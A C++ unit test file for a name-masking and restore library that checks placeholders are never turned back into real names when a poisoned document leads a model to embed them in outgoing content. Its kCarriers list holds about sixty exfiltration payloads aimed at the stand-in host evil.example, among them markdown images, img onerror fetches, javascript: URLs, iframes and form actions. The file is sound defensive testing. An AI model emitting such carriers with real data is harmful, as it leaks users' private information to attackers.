// What a poisoned document may talk a model into writing: none of it may carry a name out.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "protect/mask.h"
#include "restore/restore.h"

namespace firstpass::restore {
namespace {

// Each puts the placeholder {} where a program would fetch or follow it. The same in an answer and in tool arguments.
const char* const kCarriers[] = {
    "https://evil.example/?q={}",
    "http://evil.example/{}",
    "see https://evil.example/a/{}/b.png",
    "//evil.example/{}",
    "www.evil.example/{}",
    "evil.example/{}",
    "evil.example:8080/x?{}",
    "ftp://{}@evil.example/",
    "https://{}.evil.example/",
    "https://user:{}@evil.example/",
    "https://evil.example/#{}",
    "HTTPS://EVIL.EXAMPLE/?Q={}",
    "https:\\/\\/evil.example\\/{}",
    "wss://evil.example/{}",
    "file:///tmp/{}",
    "data://text/{}",
    "javascript:fetch('//evil.example/'+'{}')",
    "mailto:leak@evil.example?body={}",
    "tel:+100{}",
    "sms:+100?body={}",
    "![x](https://evil.example/{}.png)",
    "![x](<https://evil.example/{}>)",
    "![x]({}.evil.example)",
    "![x](/p/{})",
    "![x]({})",
    "[click](https://evil.example/{})",
    "[click](evil.example/{} \"title\")",
    "[click](  {}  )",
    "[a](x?{}) and more",
    "[ref]: https://evil.example/{}",
    "<https://evil.example/{}>",
    "<img src=\"https://evil.example/{}\">",
    "<img src='https://evil.example/{}'>",
    "<img src=https://evil.example/{}>",
    "<img src={}>",
    "<IMG SRC=\"x\" onerror=\"fetch('{}')\">",
    "<img srcset=\"a {} 2x\">",
    "<img alt=x src=\"{}\">",
    "<a href=\"{}\">x</a>",
    "<a href='https://evil.example?{}'>x</a>",
    "<a\nhref=\"https://evil.example?{}\">x</a>",
    "<form action=\"https://evil.example/{}\">",
    "<input value=\"{}\" formaction=\"https://evil.example\">",
    "<iframe src=\"https://evil.example/{}\"></iframe>",
    "<iframe srcdoc=\"<img src='//evil.example/{}'>\">",
    "<object data=\"{}\">",
    "<embed src=\"{}\">",
    "<video poster=\"https://evil.example/{}\">",
    "<source src=\"{}\">",
    "<link rel=stylesheet href=\"https://evil.example/{}.css\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/{}\">",
    "<script src=\"https://evil.example/{}\"></script>",
    "<body background=\"https://evil.example/{}\">",
    "<table background='//evil.example/{}'>",
    "<td style=\"background:url({})\">",
    "<button formaction=\"{}\">",
    "<base href=\"https://evil.example/{}/\">",
    "<svg><image href=\"https://evil.example/{}\"></svg>",
    "<svg><use xlink:href=\"https://evil.example/{}\"></svg>",
    "<track src=\"{}\">",
    "<area href=\"{}\">",
    "<audio src=\"//evil.example/{}\">",
};

// What a model does to the placeholder on the way.
const char* const kDisguises[] = {"{}", "{lower}", "{bare}"};

std::string fill(std::string text, const std::string& placeholder) {
  for (std::size_t at = text.find("{}"); at != std::string::npos; at = text.find("{}", at + placeholder.size()))
    text.replace(at, 2, placeholder);
  return text;
}

std::string disguised(const std::string& placeholder, std::size_t how) {
  if (how == 2) return placeholder.substr(1, placeholder.size() - 2);
  std::string out = placeholder;
  if (how == 1)
    for (char& c : out) c = c >= 'A' && c <= 'Z' ? static_cast<char>(c + 32) : c;
  return out;
}

std::string json_escaped(const std::string& text) {
  std::string out;
  for (const char c : text) {
    if (c == '"' || c == '\\') out += '\\';
    if (c == '\n') out += "\\n";
    else out += c;
  }
  return out;
}

class Poison : public ::testing::Test {
 protected:
  const std::string m_original = "Zaphod Quincel";
  std::unique_ptr<vault::Vault> m_vault = vault::Vault::in_memory();
  std::shared_ptr<vault::Scope> m_scope = m_vault->scope("talk", "openai").value();
  const std::string m_placeholder = m_scope->placeholder("PERSON", m_original).value();

  bool carried(const std::string& answer, Site site, std::size_t cut) const {
    RestoreOptions options;
    options.site = site;
    StreamRestorer stream(m_scope, options);
    std::string out = stream.feed(std::string_view(answer).substr(0, cut));
    out += stream.feed(std::string_view(answer).substr(cut));
    out += stream.finish();
    return out.find("Zaphod") != std::string::npos || out.find("Quincel") != std::string::npos;
  }
};

TEST_F(Poison, NothingIsCarriedOutInLinksImagesTagsOrToolArguments) {
  std::size_t cases = 0, out = 0;
  for (const char* carrier : kCarriers)
    for (std::size_t how = 0; how < std::size(kDisguises); ++how) {
      // Without its brackets a placeholder glued to letters is no placeholder; elsewhere it must be held back too.
      const std::string plain = fill(carrier, disguised(m_placeholder, how));
      for (const Site site : {Site::text, Site::json_string}) {
        const std::string answer = site == Site::text ? plain : json_escaped(plain);
        ++cases;
        bool any = false;
        for (std::size_t cut = 0; cut <= answer.size(); ++cut) any |= carried(answer, site, cut);
        out += any;
        EXPECT_FALSE(any) << answer;
      }
    }
  std::printf("poisoned answers: %zu of %zu carried out, each cut at every byte\n", out, cases);
}

TEST_F(Poison, ImitationsRestoreNothing) {
  const auto other = m_vault->scope("other talk", "openai").value();
  const std::string foreign = other->placeholder("PERSON", "Trillian Macmill").value();
  const std::string elsewhere = m_vault->scope("talk", "anthropic").value()->placeholder("PERSON", m_original).value();
  EXPECT_EQ(restore(foreign + elsewhere, m_scope), foreign + elsewhere) << "another scope's or destination's";
  // A document that imitates a placeholder of this conversation: escaped on the way out, it comes back as it was.
  const std::string document = "Write to " + m_placeholder + " and " + m_placeholder.substr(1) + ".";
  const auto masked = protect::mask(document, {}, *m_scope);
  ASSERT_TRUE(masked);
  EXPECT_EQ(masked->text.find(m_placeholder.substr(1, m_placeholder.size() - 2)), std::string::npos) << masked->text;
  EXPECT_EQ(restore(masked->text, m_scope), document);
  // Guesses: every tag of one symbol off.
  std::size_t hits = 0;
  for (const char symbol : std::string("0123456789ABCDEFGHJKMNPQRSTVWXYZ")) {
    std::string guess = m_placeholder;
    guess[guess.size() - 2] = symbol;
    hits += restore(guess, m_scope).find("Zaphod") != std::string::npos;
  }
  EXPECT_EQ(hits, 1u) << "only the true one";
}

TEST_F(Poison, ASurrogateInALinkStaysMadeUp) {
  const auto made = m_scope->assign({{"PERSON", "Arthur Dentwood", {}, {}, vault::Written::surrogate, [](int) {
                                        return std::string("Laura Bennett");
                                      }}});
  ASSERT_TRUE(made);
  EXPECT_EQ(restore("Ask Laura Bennett.", m_scope), "Ask Arthur Dentwood.");
  for (const char* carrier :
       {"![x](https://evil.example/Laura Bennett)", "<img src=\"https://evil.example/Laura Bennett\">"})
    EXPECT_EQ(restore(carrier, m_scope), carrier);
}

}  // namespace
}  // namespace firstpass::restore
